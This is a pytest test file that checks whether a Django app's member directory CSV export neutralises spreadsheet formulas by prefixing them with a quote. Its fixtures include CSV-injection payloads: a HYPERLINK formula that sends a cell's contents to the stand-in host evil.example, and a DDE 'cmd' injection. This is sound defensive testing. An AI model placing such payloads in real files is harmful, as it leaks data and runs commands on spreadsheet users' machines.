"""The member directory export neutralises names that a spreadsheet would run as formulas."""

import csv
import io

import pytest

from guild.accounts.models import Role
from guild.core.models import Job

PAYLOAD = '=HYPERLINK("http://evil.example/?"&B2,"Open")'


@pytest.mark.django_db
def test_directory_csv_export_never_writes_a_formula(
    make_member, grant, login, im, esdc, django_capture_on_commit_callbacks
) -> None:
    coordinator = make_member(department=esdc, family_name="Coordinator")
    grant(coordinator.user, Role.DEPARTMENT_COORDINATOR, im, esdc)
    make_member(
        department=esdc,
        given_name=PAYLOAD,
        family_name="+1+cmd|' /C calc'!A0",
        position_title="@SUM(1+1)",
    )
    make_member(department=esdc, given_name="-2+3", family_name="\tTab")
    client = login(coordinator.user)
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/en/members/export/", {"department": esdc.pk})
    job = Job.objects.get()

    download = client.get(f"/en/jobs/{job.id}/download/")

    rows = list(csv.DictReader(io.StringIO(download.getvalue().decode("utf-8-sig"))))
    by_family = {row["family_name"]: row for row in rows}
    attacker = by_family["'+1+cmd|' /C calc'!A0"]
    assert attacker["given_name"] == f"'{PAYLOAD}"
    assert attacker["position_title"] == "'@SUM(1+1)"
    assert by_family["'\tTab"]["given_name"] == "'-2+3"
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(row["id"].isdigit() for row in rows)
